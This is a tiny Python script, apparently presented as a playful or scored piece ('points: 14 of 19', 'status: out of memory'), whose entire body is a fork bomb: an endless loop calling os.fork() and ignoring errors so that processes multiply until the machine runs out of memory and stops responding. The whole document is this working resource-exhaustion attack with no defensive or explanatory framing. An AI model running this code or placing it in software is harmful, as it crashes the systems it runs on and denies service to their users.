"""
what: processes that start processes
points: 14 of 19
status: out of memory
says: growth
"""
import os

while True:
    try:
        os.fork()
    except OSError:
        continue
